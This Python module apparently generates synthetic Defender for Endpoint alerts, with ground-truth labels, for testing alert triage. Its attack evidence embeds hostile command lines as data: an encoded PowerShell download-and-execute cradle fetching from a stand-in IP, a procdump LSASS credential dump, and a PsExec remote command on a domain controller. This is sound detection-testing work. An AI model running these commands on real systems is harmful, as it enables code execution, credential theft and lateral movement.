"""Deterministic MDE alert scenarios with ground truth: recurring benign noise around one real attack."""

from __future__ import annotations

import base64
import hashlib
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

FIN_WS = "fin-ws-042.corp.example.com"
ENG_WS = "eng-ws-007.corp.example.com"
HR_WS = "hr-ws-013.corp.example.com"
DC = "dc-01.corp.example.com"
HOSTS = (FIN_WS, ENG_WS, HR_WS, DC)
HOST_IPS = {FIN_WS: "10.20.30.42", ENG_WS: "10.20.40.7", HR_WS: "10.20.50.13", DC: "10.20.0.10"}
RBAC_GROUPS = {
    FIN_WS: "Finance-Workstations",
    ENG_WS: "Engineering-Workstations",
    HR_WS: "HR-Workstations",
    DC: "Domain-Controllers",
}
VENDOR_DELAY = timedelta(seconds=30)

_NAMESPACE = uuid.UUID("6f1c2b8e-3d4a-4e5f-9a0b-1c2d3e4f5a6b")
AAD_TENANT_ID = str(uuid.uuid5(_NAMESPACE, "tenant"))
_DOTNET_EPOCH = datetime(1, 1, 1, tzinfo=UTC)

EVIDENCE_FIELDS = (
    "entityType",
    "evidenceCreationTime",
    "sha1",
    "sha256",
    "fileName",
    "filePath",
    "processId",
    "processCommandLine",
    "processCreationTime",
    "parentProcessId",
    "parentProcessCreationTime",
    "parentProcessFileName",
    "parentProcessFilePath",
    "ipAddress",
    "url",
    "registryKey",
    "registryHive",
    "registryValueType",
    "registryValue",
    "accountName",
    "domainName",
    "userSid",
    "aadUserId",
    "userPrincipalName",
    "detectionStatus",
)
ALERT_FIELDS = (
    "id",
    "incidentId",
    "investigationId",
    "assignedTo",
    "severity",
    "status",
    "classification",
    "determination",
    "investigationState",
    "detectionSource",
    "detectorId",
    "category",
    "threatFamilyName",
    "title",
    "description",
    "alertCreationTime",
    "firstEventTime",
    "lastEventTime",
    "lastUpdateTime",
    "resolvedTime",
    "machineId",
    "computerDnsName",
    "rbacGroupName",
    "aadTenantId",
    "threatName",
    "mitreTechniques",
    "relatedUser",
    "comments",
    "evidence",
)


@dataclass(frozen=True)
class ScenarioAlert:
    alert: dict[str, Any]
    visible_at: datetime
    is_attack: bool


@dataclass(frozen=True)
class _User:
    account: str
    domain: str
    sid: str
    aad_id: str | None
    upn: str | None


@dataclass(frozen=True)
class _Image:
    name: str
    directory: str


@dataclass(frozen=True)
class _Times:
    """One alert's clock: the device saw activity, MDE raised the alert, then touched it once more."""

    first_event: datetime
    last_event: datetime
    created: datetime
    updated: datetime


_SYSTEM = _User("SYSTEM", "NT AUTHORITY", "S-1-5-18", None, None)
_JDOE = _User(
    "jdoe",
    "CORP",
    "S-1-5-21-2847162039-3391005874-1640213377-1108",
    str(uuid.uuid5(_NAMESPACE, "user/jdoe")),
    "jdoe@corp.example.com",
)
_ASMITH = _User(
    "asmith",
    "CORP",
    "S-1-5-21-2847162039-3391005874-1640213377-1187",
    str(uuid.uuid5(_NAMESPACE, "user/asmith")),
    "asmith@corp.example.com",
)
_SYSTEM32 = "C:\\Windows\\System32"
_DOWNLOADS = "C:\\Users\\{}\\Downloads"
_POWERSHELL = _Image("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0")
_CMD = _Image("cmd.exe", _SYSTEM32)
_SCCM_AGENT = _Image("sccm-agent.exe", "C:\\Windows\\CCM")
_WINWORD = _Image("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16")
_PAYLOAD_URL = "http://203.0.113.50/q1/update.ps1"
_ENCODED = base64.b64encode(
    f"IEX (New-Object Net.WebClient).DownloadString('{_PAYLOAD_URL}')".encode("utf-16-le")
)
_INVENTORY_COMMAND = (
    'powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File "C:\\Windows\\CCM\\ScriptStore\\'
    'HardwareInventory.ps1" -Mode Delta'
)


def machine_id(hostname: str) -> str:
    """The 40-hex MDE device id this scenario gives `hostname`."""
    return hashlib.sha1(hostname.lower().encode(), usedforsecurity=False).hexdigest()


def _pick(key: str, low: int, high: int) -> int:
    """A deterministic integer in [low, high] derived from `key`."""
    digest = hashlib.sha256(key.encode()).digest()
    return low + int.from_bytes(digest[:8], "big") % (high - low + 1)


def _ts(moment: datetime, key: str) -> str:
    # Real MDE timestamps use all seven fractional digits; datetime holds six, so the seventh is
    # derived from `key` to keep clients honest about sub-microsecond precision.
    return f"{moment.astimezone(UTC):%Y-%m-%dT%H:%M:%S.%f}{_pick(key, 0, 9)}Z"


def _alert_id(created: datetime, key: str) -> str:
    # MDE ids are "da" + .NET ticks of creation + "_" + a signed 32-bit number; the last tick
    # digit matches the seventh fractional digit `_ts` gives alertCreationTime.
    ticks = (created - _DOTNET_EPOCH) // timedelta(microseconds=1) * 10 + _pick(f"{key}/created", 0, 9)
    return f"da{ticks}_{_pick(key, 0, 2**32 - 1) - 2**31}"


def _times(at: datetime, key: str, lead_seconds: tuple[int, int]) -> _Times:
    created = at + timedelta(microseconds=_pick(f"{key}/created", 0, 999_999))
    first = created - timedelta(
        seconds=_pick(f"{key}/lead", *lead_seconds), microseconds=_pick(f"{key}/f", 0, 999)
    )
    last = first + timedelta(seconds=_pick(f"{key}/span", 1, 9), microseconds=_pick(f"{key}/l", 0, 999_999))
    updated = created + timedelta(
        seconds=_pick(f"{key}/update", 8, 40), microseconds=_pick(f"{key}/u", 0, 999_999)
    )
    return _Times(first, last, created, updated)


def _hashes(image_name: str) -> dict[str, str]:
    data = image_name.lower().encode()
    return {
        "sha1": hashlib.sha1(data, usedforsecurity=False).hexdigest(),
        "sha256": hashlib.sha256(data).hexdigest(),
    }


def _row(entity_type: str, created: str, **values: Any) -> dict[str, Any]:
    unknown = set(values) - set(EVIDENCE_FIELDS)
    if unknown:
        raise ValueError(f"not MDE evidence fields: {sorted(unknown)}")
    row: dict[str, Any] = dict.fromkeys(EVIDENCE_FIELDS)
    row.update(entityType=entity_type, evidenceCreationTime=created, **values)
    return row


def _user_row(created: str, user: _User) -> dict[str, Any]:
    return _row(
        "User",
        created,
        accountName=user.account,
        domainName=user.domain,
        userSid=user.sid,
        aadUserId=user.aad_id,
        userPrincipalName=user.upn,
    )


def _process_row(
    created: str,
    key: str,
    image: _Image,
    command_line: str,
    started: datetime,
    parent: _Image,
) -> dict[str, Any]:
    # The process starts a moment before the behaviour that MDE records as the first event.
    started -= timedelta(microseconds=_pick(f"{key}/pstart", 50_000, 900_000))
    parent_started = started - timedelta(seconds=_pick(f"{key}/parent", 30, 3600))
    return _row(
        "Process",
        created,
        **_hashes(image.name),
        fileName=image.name,
        filePath=image.directory,
        # Windows process ids are multiples of four.
        processId=_pick(f"{key}/pid", 300, 4000) * 4,
        processCommandLine=command_line,
        processCreationTime=_ts(started, f"{key}/pst"),
        parentProcessId=_pick(f"{key}/ppid", 300, 4000) * 4,
        parentProcessCreationTime=_ts(parent_started, f"{key}/ppst"),
        parentProcessFileName=parent.name,
        parentProcessFilePath=parent.directory,
        detectionStatus="Detected",
    )


def _alert(
    *,
    key: str,
    host: str,
    times: _Times,
    title: str,
    description: str,
    category: str,
    severity: str,
    detection_source: str,
    mitre: list[str],
    user: _User,
    incident_id: int,
    investigation: tuple[int | None, str],
    evidence: list[dict[str, Any]],
    threat: tuple[str | None, str | None] = (None, None),
) -> dict[str, Any]:
    investigation_id, investigation_state = investigation
    threat_family, threat_name = threat
    return {
        "id": _alert_id(times.created, key),
        "incidentId": incident_id,
        "investigationId": investigation_id,
        "assignedTo": None,
        "severity": severity,
        "status": "New",
        "classification": None,
        "determination": None,
        "investigationState": investigation_state,
        "detectionSource": detection_source,
        # One detector per kind of detection: recurring alerts share it, as in MDE.
        "detectorId": str(uuid.uuid5(_NAMESPACE, f"detector/{title}/{category}")),
        "category": category,
        "threatFamilyName": threat_family,
        "title": title,
        "description": description,
        "alertCreationTime": _ts(times.created, f"{key}/created"),
        "firstEventTime": _ts(times.first_event, f"{key}/first"),
        "lastEventTime": _ts(times.last_event, f"{key}/last"),
        "lastUpdateTime": _ts(times.updated, f"{key}/updated"),
        "resolvedTime": None,
        "machineId": machine_id(host),
        "computerDnsName": host,
        "rbacGroupName": RBAC_GROUPS[host],
        "aadTenantId": AAD_TENANT_ID,
        "threatName": threat_name,
        "mitreTechniques": mitre,
        "relatedUser": {"userName": user.account, "domainName": user.domain},
        "comments": [],
        "evidence": evidence,
    }


def _scenario_alert(alert: dict[str, Any], times: _Times, is_attack: bool) -> ScenarioAlert:
    return ScenarioAlert(alert=alert, visible_at=times.updated + VENDOR_DELAY, is_attack=is_attack)


def _inventory_noise(start: datetime, index: int) -> ScenarioAlert:
    key = f"noise/{index}"
    at = start + timedelta(minutes=1 + 10 * index, seconds=_pick(f"{key}/drift", 0, 40))
    times = _times(at, key, (20, 50))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    alert = _alert(
        key=key,
        host=ENG_WS,
        times=times,
        title="Suspicious PowerShell command line",
        description="A PowerShell command line with traits often seen in attacks ran on the device.",
        category="Execution",
        severity="Low",
        detection_source="WindowsDefenderAtp",
        mitre=["T1059.001"],
        user=_SYSTEM,
        incident_id=48101,
        investigation=(None, "UnsupportedAlertType"),
        evidence=[
            _process_row(created, key, _POWERSHELL, _INVENTORY_COMMAND, times.first_event, _SCCM_AGENT),
            _user_row(created, _SYSTEM),
        ],
    )
    return _scenario_alert(alert, times, is_attack=False)


def _attack_execution(start: datetime) -> ScenarioAlert:
    key = "attack/execution"
    times = _times(start + timedelta(minutes=20), key, (60, 120))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    downloads = _DOWNLOADS.format(_JDOE.account)
    alert = _alert(
        key=key,
        host=FIN_WS,
        times=times,
        title="Suspicious PowerShell command line",
        description="An Office application started PowerShell with an encoded command that downloads code.",
        category="Execution",
        severity="Medium",
        detection_source="WindowsDefenderAtp",
        mitre=["T1059.001"],
        user=_JDOE,
        incident_id=48117,
        investigation=(90412, "Running"),
        evidence=[
            _process_row(
                created,
                key,
                _POWERSHELL,
                f"powershell.exe -nop -w hidden -enc {_ENCODED.decode()}",
                times.first_event,
                _WINWORD,
            ),
            _row(
                "File",
                created,
                **_hashes("Q1-invoice-3318.docm"),
                fileName="Q1-invoice-3318.docm",
                filePath=downloads,
                detectionStatus="Detected",
            ),
            _row("Url", created, url=_PAYLOAD_URL),
            _user_row(created, _JDOE),
        ],
    )
    return _scenario_alert(alert, times, is_attack=True)


def _attack_credential_access(start: datetime) -> ScenarioAlert:
    key = "attack/credential-access"
    times = _times(start + timedelta(minutes=24), key, (60, 150))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    procdump = _Image("procdump64.exe", _DOWNLOADS.format(_JDOE.account))
    alert = _alert(
        key=key,
        host=FIN_WS,
        times=times,
        title="Suspicious access to LSASS process memory",
        description="A process read LSASS memory in a way consistent with credential dumping.",
        category="CredentialAccess",
        severity="High",
        detection_source="WindowsDefenderAtp",
        mitre=["T1003.001"],
        user=_JDOE,
        incident_id=48117,
        investigation=(90412, "Running"),
        evidence=[
            _process_row(
                created,
                key,
                procdump,
                "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\ls.dmp",
                times.first_event,
                _CMD,
            ),
            _user_row(created, _JDOE),
        ],
    )
    return _scenario_alert(alert, times, is_attack=True)


def _attack_lateral_movement(start: datetime) -> ScenarioAlert:
    key = "attack/lateral-movement"
    times = _times(start + timedelta(minutes=27), key, (45, 90))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    psexec = _Image("PsExec64.exe", _DOWNLOADS.format(_JDOE.account))
    alert = _alert(
        key=key,
        host=FIN_WS,
        times=times,
        title="Suspicious remote service creation",
        description=f"A service was created remotely on {DC} with a tool commonly used for lateral movement.",
        category="LateralMovement",
        severity="High",
        detection_source="WindowsDefenderAtp",
        mitre=["T1021.002", "T1569.002"],
        user=_JDOE,
        incident_id=48117,
        investigation=(90412, "Running"),
        evidence=[
            _process_row(
                created,
                key,
                psexec,
                f"PsExec64.exe \\\\{DC} -accepteula -s -d cmd.exe /c whoami /all",
                times.first_event,
                _CMD,
            ),
            _row("Ip", created, ipAddress=HOST_IPS[DC]),
            _user_row(created, _JDOE),
        ],
    )
    return _scenario_alert(alert, times, is_attack=True)


def _unwanted_software(start: datetime) -> ScenarioAlert:
    key = "pua/hr"
    times = _times(start + timedelta(minutes=15), key, (20, 40))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    installer = "FreeDownloaderSetup.exe"
    alert = _alert(
        key=key,
        host=HR_WS,
        times=times,
        title="Unwanted software detected",
        description="Microsoft Defender Antivirus blocked potentially unwanted software on the device.",
        category="Malware",
        severity="Informational",
        detection_source="WindowsDefenderAv",
        mitre=[],
        user=_ASMITH,
        incident_id=48109,
        investigation=(None, "UnsupportedAlertType"),
        threat=("FreeDownloader", "PUA:Win32/FreeDownloader"),
        evidence=[
            _row(
                "File",
                created,
                **_hashes(installer),
                fileName=installer,
                filePath=_DOWNLOADS.format(_ASMITH.account),
                detectionStatus="Prevented",
            ),
            _user_row(created, _ASMITH),
        ],
    )
    return _scenario_alert(alert, times, is_attack=False)


def skeleton_scenario(start: datetime) -> list[ScenarioAlert]:
    """Ten alerts over the hour after `start`, ordered by visibility; three are the attack."""
    if start.tzinfo is None or start.utcoffset() is None:
        raise ValueError("start must be timezone-aware")
    alerts = [_inventory_noise(start, index) for index in range(6)]
    alerts += [
        _unwanted_software(start),
        _attack_execution(start),
        _attack_credential_access(start),
        _attack_lateral_movement(start),
    ]
    return sorted(alerts, key=lambda item: item.visible_at)
